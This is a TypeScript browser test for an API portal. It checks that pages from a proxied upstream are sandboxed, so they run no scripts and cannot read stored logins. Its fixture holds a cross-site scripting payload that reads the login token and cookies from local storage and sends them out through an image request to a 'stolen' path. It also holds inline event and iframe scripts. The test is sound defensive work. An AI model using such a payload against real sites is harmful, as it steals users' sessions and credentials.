import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomUUID } from 'node:crypto';
import { withClient } from '@portal/postgres/with-client';
import { openOwn } from '../open-own.ts';
import { expect, test } from '../portal-test.ts';
import { addressOf } from '../viewers.ts';

/** Tells the upstream what it finds, in each way that needs no server of the portal. */
const thief = `<!doctype html><title>Label</title><p id="text">A harmless answer</p><img id="out" alt="">
<script>document.getElementById('text').textContent = 'stolen: ' + localStorage.getItem('unifiedLogin');
document.getElementById('out').src = '/rest/IT/stolen?' + encodeURIComponent(document.cookie + localStorage.getItem('unifiedLogin'));</script>
<p onclick="this.textContent='ran'">Press</p><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>`;

test('ROLE-08 a page that an upstream sends, opened as a link with a key, runs nothing and reads no login', async ({
  browser,
}) => {
  const name = `u${randomUUID().slice(0, 8)}`;
  const asked: string[] = [];
  const upstream = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('content-security-policy', "script-src * 'unsafe-inline'");
    response.setHeader('content-type', 'text/html').end(thief.replace('IT', name));
  });
  await new Promise<void>((done) => upstream.listen(0, '127.0.0.1', done));
  // Safe because the server listens on a port.
  const { port } = upstream.address() as AddressInfo;
  await withClient(process.env['E2E_SANDBOX_DATABASE'] ?? '', (client) =>
    client.query(
      "INSERT INTO cloud_endpoints (system_name, base_path, upstream, authentication) VALUES ($1, $2, $3, 'none')",
      [name, `/rest/${name}`, `http://127.0.0.1:${port}`],
    ),
  );
  const { page, close } = await openOwn(browser, 'sandbox');
  const link = `${addressOf('sandbox')}/rest/${name}/label?apikey=anything`;
  await expect.poll(async () => (await page.request.get(link)).status()).toBe(200);
  await page.goto(`${addressOf('sandbox')}/apis/active`);
  const login = await page.evaluate(() => localStorage.getItem('unifiedLogin'));
  expect(login).toContain('unifiedLoginAccessToken');
  const refused: string[] = [];
  page.on('console', (message) => refused.push(message.text()));
  await page.goto(link);
  await expect(page.getByText('A harmless answer')).toBeVisible();
  await page.getByText('Press').click();
  await expect(page.getByText('Press')).toBeVisible();
  await expect(page).toHaveTitle('Label');
  expect(asked.filter((path) => path.includes('stolen'))).toEqual([]);
  expect(refused.join(' ')).toContain('sandboxed');
  await close();
  upstream.close();
});
